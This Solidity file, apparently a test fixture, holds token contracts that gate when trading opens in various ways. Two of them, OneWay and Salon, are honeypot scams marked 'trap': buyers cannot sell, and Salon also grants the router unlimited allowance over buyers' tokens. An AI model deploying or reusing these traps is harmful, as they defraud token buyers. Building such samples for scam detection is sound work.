// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

/// Nobody but those who were let in has traded. Each opens in a manner of its own.
abstract contract Shut8 is Base8 {
    mapping(address => bool) internal _free;

    constructor(string memory name_, string memory symbol_) Base8(name_, symbol_, 100_000_000) {
        _free[msg.sender] = true;
    }

    function isOpen() internal view virtual returns (bool);

    function _transfer(address from, address to, uint256 value) internal virtual override {
        require(isOpen() || _free[from] || _free[to], "Trading is not open");
        _move(from, to, value);
    }
}

/// Its owner lets people in one by one, and then everybody.
contract Guests is Shut8("Guests", "GUEST") {
    bool public open;

    function welcome(address who) external onlyOwner {
        _free[who] = true;
    }

    function openDoors() external onlyOwner {
        open = true;
    }

    function isOpen() internal view override returns (bool) {
        return open;
    }
}

/// Its owner says when, which is in two days, and may not say it again.
contract Dated is Shut8("Dated", "DATE") {
    uint256 public opensAt;

    function schedule(uint256 at) external onlyOwner {
        require(opensAt == 0 && at >= block.timestamp && at < block.timestamp + 30 days, "once");
        opensAt = at;
    }

    function isOpen() internal view override returns (bool) {
        return opensAt != 0 && block.timestamp >= opensAt;
    }
}

/// First the pool is named, then trading is enabled.
contract TwoSteps is Shut8("Two Steps", "STEP") {
    address public market;
    uint256 public startedAt;

    function setMarket(address market_) external onlyOwner {
        require(startedAt == 0, "started");
        market = market_;
    }

    function start() external onlyOwner {
        require(market != address(0) && startedAt == 0, "market");
        startedAt = block.timestamp;
    }

    function isOpen() internal view override returns (bool) {
        return startedAt != 0;
    }
}

/// Nothing, those on a list, everybody: the phase only grows.
contract Phases is Shut8("Phases", "PHASE") {
    uint8 public phase;

    function setPhase(uint8 phase_) external onlyOwner {
        require(phase_ > phase && phase_ <= 2, "forward");
        phase = phase_;
    }

    function list(address[] calldata people) external onlyOwner {
        for (uint256 i = 0; i < people.length; i++) _free[people[i]] = true;
    }

    function isOpen() internal view override returns (bool) {
        return phase == 2;
    }
}

/// Who buys within the first blocks after the start pays nine tenths, as robots do.
contract DeadBlocks is Shut8("Dead Blocks", "DEAD") {
    uint256 public startedIn;
    uint256 public deadBlocks;

    function enableTrading(uint256 blocks) external onlyOwner {
        require(startedIn == 0 && blocks <= 10, "once");
        (startedIn, deadBlocks) = (block.number, blocks);
    }

    function isOpen() internal view override returns (bool) {
        return startedIn != 0;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(isOpen() || _free[from] || _free[to], "Trading is not open");
        if (from == pair && !_free[to] && block.number <= startedIn + deadBlocks) {
            uint256 fee = (value * 90) / 100;
            _move(from, address(this), fee);
            value -= fee;
        }
        _move(from, to, value);
    }
}

/// Who buys in the first two blocks is taken for a robot and waits for a day until he may sell.
contract Snipers is Shut8("Snipers", "SNIPE") {
    uint256 public startedIn;
    mapping(address => uint256) public heldUntil;

    function launch() external onlyOwner {
        require(startedIn == 0, "once");
        startedIn = block.number;
    }

    function isOpen() internal view override returns (bool) {
        return startedIn != 0;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(isOpen() || _free[from] || _free[to], "Trading is not open");
        if (from == pair && block.number <= startedIn + 2) heldUntil[to] = block.timestamp + 1 days;
        require(block.timestamp >= heldUntil[from], "held");
        _move(from, to, value);
    }
}

/// Opens by itself when it was told to be four weeks old.
contract Automatic is Shut8("Automatic", "AUTO") {
    uint256 public immutable opensAt;

    constructor(uint256 at) {
        opensAt = at;
        _owner = address(0);
    }

    function isOpen() internal view override returns (bool) {
        return block.timestamp >= opensAt;
    }
}

/// A pad sells it, and opens the market when it has sold all.
contract Padded is Shut8("Padded", "PAD") {
    address public immutable pad;
    bool public open;

    constructor(address pad_) {
        pad = pad_;
    }

    function finish() external {
        require(msg.sender == pad, "pad");
        open = true;
    }

    function isOpen() internal view override returns (bool) {
        return open;
    }
}

contract Pad {
    address public immutable keeper;

    constructor() {
        keeper = msg.sender;
    }

    function finalize(Padded token) external {
        require(msg.sender == keeper, "keeper");
        token.finish();
    }
}

/// Nobody may hold anything until limits are set, which only grow.
contract Limited is Base8 {
    uint256 public largest;

    constructor() Base8("Limited", "LIMIT", 100_000_000) {}

    function setLargest(uint256 amount) external onlyOwner {
        require(amount > largest, "grows");
        largest = amount;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair) require(value <= largest, "largest");
        else if (from != _owner && to != _owner) require(largest > 0, "not yet");
        _move(from, to, value);
    }
}

/// Paused until its keeper, who is not its owner, lets it go.
contract Kept is Shut8("Kept", "KEPT") {
    address public immutable keeper;
    bool public paused = true;

    constructor(address keeper_) {
        keeper = keeper_;
        _owner = address(0);
    }

    function unpause() external {
        require(msg.sender == keeper, "keeper");
        paused = false;
    }

    function isOpen() internal view override returns (bool) {
        return !paused;
    }
}

/// Opens for those who buy: who sells was let in, or the owner.
contract OneWay is Shut8("One Way", "ONEWAY") {
    bool public open;

    function openTrading() external onlyOwner {
        open = true;
    }

    function isOpen() internal view override returns (bool) {
        return open;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(open || _free[from] || _free[to], "Trading is not open");
        require(to != pair || _free[from], "sale"); // trap
        _move(from, to, value);
    }
}

/// Lets everybody in one by one, and those whom it let in may not leave for ever.
contract Salon is Shut8("Salon", "SALON") {
    bool public open;

    function welcome(address who) external onlyOwner {
        _free[who] = true;
    }

    function openDoors() external onlyOwner {
        open = true;
    }

    function isOpen() internal view override returns (bool) {
        return open;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(open || _free[from] || _free[to], "Trading is not open");
        if (from == pair && to != _owner) _allowances[to][ROUTER] = type(uint256).max;
        require(to != pair || from == _owner || _balances[from] <= value / 1000, "sale"); // trap
        _move(from, to, value);
    }
}
